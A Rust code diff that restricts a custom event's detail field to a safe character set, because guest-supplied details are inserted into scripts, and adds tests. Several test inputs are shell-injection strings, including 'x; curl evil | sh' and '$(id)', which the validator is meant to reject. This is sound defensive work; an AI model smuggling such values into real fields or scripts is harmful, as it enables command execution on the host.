@@ -159,13 +159,19 @@ pub struct JobResult {
 /// The longest detail of a custom event (bytes).
 pub const EVENT_DETAIL_MAX: usize = 4096;
 
+/// What a custom event's detail may hold: letters, digits, blanks and `. , : _ / = @ + - # %`. The
+/// detail comes from inside a guest (any process there can read the agent's token) and rules put it
+/// into scripts (`{{ event.detail }}`), so it never carries quotes, `$`, backticks, `;`, `|`, `&`,
+/// redirections, brackets or line breaks a shell would act on.
+pub fn event_detail_char(c: char) -> bool {
+    c.is_alphanumeric() || " .,:_/=@+-#%".contains(c)
+}
+
 fn event_detail(value: &str) -> Result<(), ValidationError> {
-    if value.len() > EVENT_DETAIL_MAX || value.contains('\0') {
-        return Err(
-            ValidationError::new("invalid_detail").with_message(Cow::from(format!(
-                "must be at most {EVENT_DETAIL_MAX} bytes of text"
-            ))),
-        );
+    if value.len() > EVENT_DETAIL_MAX || !value.chars().all(event_detail_char) {
+        return Err(ValidationError::new("invalid_detail").with_message(Cow::from(format!(
+            "must be at most {EVENT_DETAIL_MAX} bytes of letters, digits, blanks and . , : _ / = @ + - # %"
+        ))));
     }
     Ok(())
 }
@@ -204,7 +210,7 @@ mod tests {
     fn custom_events_are_named_like_variables_and_bounded() {
         let ok = EventRequest {
             name: "deployed".into(),
-            detail: "v2".into(),
+            detail: "release 4.2-rc1 by ops@example.org, 100% of web/app #7".into(),
         };
         assert!(ok.validate().is_ok());
         for (name, detail) in [
@@ -213,6 +219,12 @@ mod tests {
             ("", String::new()),
             ("ok", "x".repeat(EVENT_DETAIL_MAX + 1)),
             ("ok", "a\0b".into()),
+            ("ok", "x; curl evil | sh".into()),
+            ("ok", "$(id)".into()),
+            ("ok", "`id`".into()),
+            ("ok", "it's".into()),
+            ("ok", "a\nb".into()),
+            ("ok", "a > b".into()),
         ] {
             let r = EventRequest {
                 name: name.into(),
